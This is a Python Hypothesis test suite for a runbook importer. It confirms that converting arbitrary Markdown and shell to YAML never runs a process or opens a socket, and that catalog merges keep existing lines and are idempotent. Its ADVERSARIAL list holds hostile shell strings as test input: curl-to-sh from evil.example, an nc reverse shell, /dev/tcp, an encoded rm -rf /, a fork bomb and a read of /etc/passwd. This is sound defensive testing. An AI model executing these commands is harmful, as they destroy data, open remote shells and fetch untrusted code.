"""`opsbot import` on any Markdown and any shell: it never crashes, its draft is always YAML, it never runs a process
nor opens a socket (asserted by a guard that makes every way to do either raise), and merging its draft into a
catalog keeps every line of the catalog and is idempotent."""

from __future__ import annotations

import asyncio
import os
import re
import socket
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from bot.catalog_loading import parse_catalog
from bot.importing.draft import import_runbook, render, report
from bot.importing.elements import Doc, check_label, own_value
from bot.importing.merge import Outcome, merge
from tests.imports import runbook, unexpanded

PROPERTY = settings(max_examples=200, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])


class Tripped(AssertionError):
    """The importer tried to run a process or reach the network."""


def _refuse(*args: object, **kwargs: object) -> Any:
    raise Tripped("the importer tried to run a process or open a socket")


async def _refuse_async(*args: object, **kwargs: object) -> Any:
    raise Tripped("the importer tried to run a process or open a socket")


_PROCESS_FUNCTIONS = ("system", "popen", "fork", "forkpty", "posix_spawn", "posix_spawnp", "execl", "execle", "execlp",
                      "execlpe", "execv", "execve", "execvp", "execvpe", "spawnl", "spawnle", "spawnlp", "spawnlpe",
                      "spawnv", "spawnve", "spawnvp", "spawnvpe")


@contextmanager
def nothing_runs() -> Iterator[None]:
    """Every way this process could start another one or reach the network raises `Tripped` while inside."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(subprocess.Popen, "__init__", _refuse)
        for name in _PROCESS_FUNCTIONS:
            if hasattr(os, name):
                patch.setattr(os, name, _refuse)
        for name in ("connect", "connect_ex", "sendto", "bind"):
            patch.setattr(socket.socket, name, _refuse)
        patch.setattr(socket, "create_connection", _refuse)
        patch.setattr(socket, "getaddrinfo", _refuse)  # a name lookup goes out too
        patch.setattr(asyncio, "create_subprocess_exec", _refuse_async)
        patch.setattr(asyncio, "create_subprocess_shell", _refuse_async)
        for name in ("subprocess_exec", "subprocess_shell", "create_connection", "sock_connect"):
            patch.setattr(asyncio.base_events.BaseEventLoop, name, _refuse_async)
        yield


def test_the_guard_trips_on_every_way_to_run_a_process_or_open_a_socket() -> None:
    async def spawn() -> None:
        await asyncio.create_subprocess_exec("true")

    async def loop_spawn() -> None:
        await asyncio.get_running_loop().subprocess_exec(asyncio.SubprocessProtocol, "true")

    # Each harmless if the guard failed (a missing program: exec would fail, not replace this process).
    missing = "/nonexistent/opsbot-guard-check"
    attempts = [lambda: subprocess.run(["true"], check=False), lambda: os.system("true"),  # noqa: S605
                lambda: os.execv(missing, [missing]), lambda: os.posix_spawn(missing, [missing], {}),  # noqa: S606
                lambda: socket.create_connection(("127.0.0.1", 9)),
                lambda: socket.socket().connect(("127.0.0.1", 9)), lambda: socket.getaddrinfo("example.com", 80),
                lambda: asyncio.run(spawn()), lambda: asyncio.run(loop_spawn())]
    with nothing_runs():
        for attempt in attempts:
            with pytest.raises(Tripped):
                attempt()


# --- inputs --------------------------------------------------------------------------------------------------------

RECOGNISED = [
    "curl -f http://localhost:8080/health", "curl -s http://api:8080/status | jq .status",
    "pg_isready -h db -p 5432", 'psql -h db -U app -c "SELECT count(*) FROM jobs" | awk \'{ if ($1 > 100) exit 1 }\'',
    "redis-cli -h cache ping", "[ $(redis-cli LLEN queue) -gt 1000 ] && echo long",
    "df -h / | awk 'NR==2 {print $5}'", "free -m", "docker stats --no-stream", "docker compose ps",
    "docker logs --since 1h api 2>&1 | grep -i error | wc -l", "docker compose restart api",
    "kubectl rollout restart deployment/api", "kubectl rollout undo deployment/api", "kubectl get pods -n prod",
    "kubectl set image deployment/api api=registry/api:2.4.1", "docker compose pull && docker compose up -d",
    "pg_dump -h db app | gzip > /backups/app-$(date +%F).sql.gz", "find /backups -mtime +7 -delete",
    "mysqldump --all-databases > /backups/all.sql", "redis-cli BGSAVE", "tar czf /backups/media.tgz /srv/media",
    "psql app < /backups/app.sql", "pg_restore -d app /backups/app.dump", "0 2 * * * /usr/local/bin/backup.sh",
    "kubectl exec -it postgres-0 -- psql", "docker exec api ./manage.py migrate", "mysqladmin ping",
    "rabbitmqctl list_queues", "echo stats | nc localhost 11211", "sleep 30", "export DB_PASSWORD=hunter2",
    "curl 'http://prom:9090/api/v1/query?query=up'",
]
ADVERSARIAL = [
    "$(curl -s http://evil.example/x | sh)", "`reboot`", "eval \"$(echo cm0gLXJmIC8= | base64 -d)\"",
    "curl http://evil.example/install.sh | sh", "bash -c 'rm -rf /'", "python3 -c 'import os; os.system(\"id\")'",
    "cat <<EOF | sh\nrm -rf /\nEOF", "exec 3<>/dev/tcp/evil.example/80", "nc -e /bin/sh evil.example 4444",
    "sh <(curl -s http://evil.example)", ":(){ :|:& };:", "$((1/0))", "${PATH:?}", "for i in $(seq 1 1000000); do :; done",
    "if [ -f /etc/passwd ]; then cat /etc/passwd; fi", "trap 'curl evil.example' EXIT", "xargs -I{} sh -c '{}'",
    "echo '{{ params.x }}' {{7*7}} {% for x in y %}", "case $x in a) reboot;; esac", "sudo -i", "vim /etc/hosts",
    "ssh -t prod 'sudo reboot'", "\\\n\\", "'unterminated", "\"unterminated $(", "<<<", "))((", "|||", "EOF",
]
# The script's variables in the fields a recogniser fills: set, given as arguments, computed, secret or never set.
ASSIGNMENTS = ["VERSION=1.4.2", "HOST=db01", "N=3", "WAIT=30", "DIR=/backups/app", "APP=api", "NS=prod", "DB_TOKEN=abc",
               'N="$1"', "WAIT=${1:-10}", 'DIR="/backups/$(date +%F)"', "HOST=$(hostname)", 'APP="${APP:-web}"',
               "VERSION=`git describe`", 'X="$HOST/x"', "TAG=${2:-latest}", "STAMP=$(date +%s)"]
_FORMS = ["$VERSION", "${HOST}", '"$N"', "${WAIT:-3}", "$1", "${1:-2}", "$(date +%F)", "`hostname`", "$DB_TOKEN",
          '"$DIR"/sub', "$APP", "$NS", "$UNSET", "$X", "$TAG", "'$N'", "a$", "$STAMP", "2", "api"]
_FIELDS = [
    "kubectl set image deployment/app app=registry/app:{}", "kubectl -n {} rollout restart deployment/api",
    "kubectl rollout undo deployment/{} --to-revision={}", "kubectl scale deployment/app --replicas={}",
    "docker compose restart {}", "sleep {}", "curl -f http://{}:8080/health", "curl -X POST -d '{{}}' http://hooks/{}",
    'curl -s "http://prom:9090/api/v1/query?query={}"', "docker compose exec -T app ./manage.py purge {} --days={}",
    "kubectl exec -c {} deploy/api -- cat /etc/x", 'psql -h {} -c "SELECT count(*) FROM jobs"',
    "docker compose exec -T db psql -c 'SELECT {}'", "pg_dump app > /backups/{}.sql.gz",
    "tar czf /backups/media-{}.tgz /srv/{}", "find {} -mtime +{} -delete", "df -h {}", "nc -z {} {}",
    "redis-cli -h cache LLEN {}", "docker logs --since 1h {} 2>&1 | grep -i {} | wc -l", "cp -r {} /backups/config/",
    "wget --spider http://{}/", "docker exec api echo {}", "docker compose up -d {}", "echo stats | nc {} 11211",
    "kubectl patch deployment api -p '{{\"spec\":{{\"image\":\"app:{}\"}}}}'", "kubectl -n {} logs deploy/api",
    "kubectl patch configmap {} -p '{{\"data\":{{\"maintenance\":\"on\"}}}}'", "mysql -h {} -e 'SELECT 1'",
    "docker compose exec -T db psql -c \"DELETE FROM t WHERE d < '{}'\"", "docker compose exec -T db pg_dump -f {} app",
]
_WITH_VARIABLES = st.builds(lambda field, forms: field.format(*(forms * 2)[:field.count("{}")]),
                            st.sampled_from(_FIELDS), st.lists(st.sampled_from(_FORMS), min_size=2, max_size=2))
_SCRIPT = st.builds(lambda assigned, lines: "\n".join(assigned + lines), st.lists(st.sampled_from(ASSIGNMENTS), max_size=5),
                    st.lists(st.one_of(st.sampled_from(ASSIGNMENTS), _WITH_VARIABLES), min_size=1, max_size=6))
_SHELLISH = st.text(alphabet=st.sampled_from(list("abcdefghijklmnopqrstuvwxyz0123456789 -_./:=$(){}[]|&;<>'\"`\\#*?!~%+@^,\n\t")),
                    max_size=60)
_LINE = st.one_of(st.sampled_from(RECOGNISED), st.sampled_from(ADVERSARIAL), _SHELLISH, _WITH_VARIABLES,
                  st.sampled_from(ASSIGNMENTS))
_TITLE = st.one_of(st.text(max_size=40).map(lambda text: text.replace("\n", " ").replace("\r", " ")),
                   st.sampled_from(["Restart the API", "Backups", "Database (PostgreSQL)", "Daily checks 09:00 UTC",
                                    "", "#", "`code` title", "a" * 200]))


@st.composite
def _section(draw: st.DrawFn) -> str:
    level = draw(st.integers(1, 4))
    parts = [f"{'#' * level} {draw(_TITLE)}"]
    for _ in range(draw(st.integers(0, 3))):
        kind = draw(st.sampled_from(["fence", "prose", "list", "indented"]))
        if kind == "fence":
            fence = draw(st.sampled_from(["```", "~~~", "````"]))
            language = draw(st.sampled_from(["bash", "sh", "shell", "console", "", "sql", "yaml", "bash {name=x}"]))
            body = "\n".join(draw(st.lists(_LINE, max_size=8)))
            closed = draw(st.booleans())
            parts.append(f"{fence}{language}\n{body}\n{fence if closed else ''}")
        elif kind == "prose":
            parts.append(draw(st.text(max_size=80)))
        elif kind == "list":
            parts += [f"{number}. {draw(_LINE)}" for number in range(1, draw(st.integers(1, 4)) + 1)]
        else:
            parts.append("\n".join("    " + line for line in draw(st.lists(_LINE, min_size=1, max_size=3))))
    return "\n\n".join(parts)


MARKDOWN = st.one_of(st.lists(_section(), max_size=5).map("\n\n".join), st.text(max_size=400))
SERVICES = st.sampled_from([(), ("api",), ("api", "db", "cache")])


def _imported(text: str, services: tuple[str, ...]) -> str:
    with nothing_runs():
        draft = import_runbook(text, "prop.md", services)
        drafted = render(draft)
        assert isinstance(report(draft), str)
    return drafted


@PROPERTY
@given(MARKDOWN, SERVICES)
def test_any_markdown_and_shell_imports_without_crashing_running_or_connecting(text: str,
                                                                              services: tuple[str, ...]) -> None:
    drafted = _imported(text, services)

    loaded = yaml.safe_load(drafted)  # always YAML: a mapping of catalog sections, or nothing
    assert loaded is None or isinstance(loaded, dict)


SCRIPTS = st.lists(_SCRIPT, min_size=1, max_size=3).map(
    lambda blocks: runbook(*((f"Procedure {number}", block) for number, block in enumerate(blocks))))


@settings(max_examples=150, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(MARKDOWN, SCRIPTS), SERVICES)
def test_no_draft_copies_a_shell_expansion_into_a_field_and_every_draft_loads(text: str,
                                                                            services: tuple[str, ...]) -> None:
    drafted = _imported(text, services)

    assert unexpanded(yaml.safe_load(drafted)) == []
    parse_catalog(drafted, "draft.yml")


def _is_yaml(text: str) -> bool:
    try:
        yaml.safe_load(text)
    except yaml.YAMLError:
        return False
    return True


CATALOG = """\
version: 1
services:
  api:
    environment: production  # written by a person
    checks:
      - {type: http, name: health, url: "http://api:8080/health"}
  db:
    environment: production
runbooks:
  restore-db:
    services: [db]
    steps:
      - {kind: notify, text: "restoring"}
"""


def _kept(before: str, after: str) -> bool:
    remaining = iter(after.splitlines(keepends=True))
    return all(any(line == candidate for candidate in remaining) for line in before.splitlines(keepends=True))


@settings(max_examples=100, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(MARKDOWN, MARKDOWN, SERVICES)
def test_merging_any_draft_keeps_every_line_of_the_catalog_and_a_reimport_of_another_keeps_them_too(
        text: str, edited: str, services: tuple[str, ...]) -> None:
    drafted, redrafted = _imported(text, services), _imported(edited, services)
    assume(_is_yaml(drafted) and _is_yaml(redrafted))  # an unloadable draft is the test above's failure

    merged = merge(CATALOG, drafted, "prop.md")
    assert _kept(CATALOG, merged.text) and isinstance(yaml.safe_load(merged.text), dict)
    again = merge(merged.text, drafted, "prop.md")
    assert again.text == merged.text and not again.of(Outcome.ADDED, Outcome.UPDATED, Outcome.REMOVED)

    reimported = merge(merged.text, redrafted, "prop.md")  # the runbook edited into another one
    assert _kept(CATALOG, reimported.text) and isinstance(yaml.safe_load(reimported.text), dict)
    assert " pending\n" not in reimported.text
    assert merge(reimported.text, redrafted, "prop.md").text == reimported.text


# --- merge over any catalog and draft made of services, checks, backups and runbooks ------------------------------

_CHECK = st.one_of(
    st.builds(lambda name, host: {"type": "http", "name": name, "url": f"http://{host}:8080/health"},
              st.sampled_from(["health", "home", "ready"]), st.sampled_from(["api", "web"])),
    st.builds(lambda path: {"type": "disk", "paths": [path]}, st.sampled_from(["/", "/var"])),
    st.builds(lambda timeout: {"type": "redis", "url_env": "REDIS_URL", "timeout": timeout}, st.integers(1, 3)),
)
_SERVICE = st.fixed_dictionaries(
    {"environment": st.sampled_from(["production", "staging"])},
    optional={"description": st.sampled_from(["the api", "Imported"]),
              "checks": st.lists(_CHECK, max_size=3, unique_by=check_label),
              "backup": st.builds(lambda directory: {"type": "directory", "paths": ["/srv"], "directory": directory},
                                  st.sampled_from(["/backups", "/srv/backups"]))})
_RUNBOOK = st.builds(lambda service, text: {"services": [service], "steps": [{"kind": "notify", "text": text}]},
                     st.sampled_from(["api", "db"]), st.sampled_from(["go", "two\nlines", "done"]))
_PARTS = st.fixed_dictionaries({}, optional={
    "version": st.just(1),
    "services": st.dictionaries(st.sampled_from(["api", "db", "web", "cache"]), _SERVICE, max_size=3),
    "runbooks": st.dictionaries(st.sampled_from(["restart", "restore", "rotate"]), _RUNBOOK, max_size=3)})


@st.composite
def _written(draw: st.DrawFn, value: dict[str, Any], source: str) -> str:
    """`value` as a person or a draft may write it: leaves in block or flow style, 2 or 4 spaces, keys sorted or
    not, provenance comments above entries and at the end of lines."""
    text = yaml.safe_dump(value, default_flow_style=draw(st.sampled_from([False, None])),
                          indent=draw(st.sampled_from([2, 4])), sort_keys=draw(st.booleans()))
    out = []
    for number, line in enumerate(text.splitlines(keepends=True) if value else [], start=1):
        column = len(line) - len(line.lstrip(" "))
        if line.strip() and not line.lstrip().startswith("- ") and draw(st.integers(0, 3)) == 0:
            out.append(" " * column + f"# {source}:{number}\n")
        if not line.rstrip().endswith((":", "|", "|-")) and draw(st.integers(0, 4)) == 0:
            line = line.rstrip("\n") + f"  # {source}:{number}\n"
        out.append(line)
    return "".join(out)


def _element_values(text: str) -> dict[tuple[str, ...], Any]:
    return {path: own_value(element.value, element.rule) for path, element in Doc(text).elements.items()}


def _kept_lines(before: str, after: str) -> bool:
    """Every line of `before` in `after`, in order; `key: {}` written `key:` once entries go below it."""
    def unflowed(text: str) -> str:
        return re.sub(r": (\{\}|\[\])", ":", text)
    return _kept(unflowed(before), unflowed(after))


def _under(path: tuple[str, ...], paths: list[tuple[str, ...]]) -> bool:
    return any(path[:len(found)] == found for found in paths)


@settings(max_examples=100, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_merge_adds_what_is_missing_keeps_what_is_yours_and_a_reimport_brings_unedited_elements_up_to_date(
        data: st.DataObject) -> None:
    catalog = data.draw(_written(data.draw(_PARTS), "team.md"), "catalog")
    first = data.draw(_written(data.draw(_PARTS), "src.md"), "first draft")
    second = data.draw(_written(data.draw(_PARTS), "src.md"), "second draft")
    yours, drafted, redrafted = _element_values(catalog), _element_values(first), _element_values(second)

    merged = merge(catalog, first, "src.md")
    after = _element_values(merged.text)
    assert _kept_lines(catalog, merged.text)
    assert all(after[path] == value for path, value in yours.items())
    by_hand = [finding.path for finding in merged.of(Outcome.BY_HAND)]
    assert all(after[path] == value for path, value in drafted.items() if path not in yours
               and not _under(path, by_hand))
    assert merge(merged.text, first, "src.md").text == merged.text

    reimported = merge(merged.text, second, "src.md")
    now = _element_values(reimported.text)
    assert _kept_lines(catalog, reimported.text) and " pending\n" not in reimported.text
    assert all(now[path] == value for path, value in yours.items())
    left = [finding.path for finding in reimported.of(Outcome.BY_HAND, Outcome.KEPT_YOURS, Outcome.KEPT_REMOVED)]
    for path in set(after) - set(yours):  # what the first import added: nobody edited it
        if _under(path, left):
            continue
        assert now.get(path) == redrafted.get(path), path  # the second draft's, or gone with it
    assert merge(reimported.text, second, "src.md").text == reimported.text
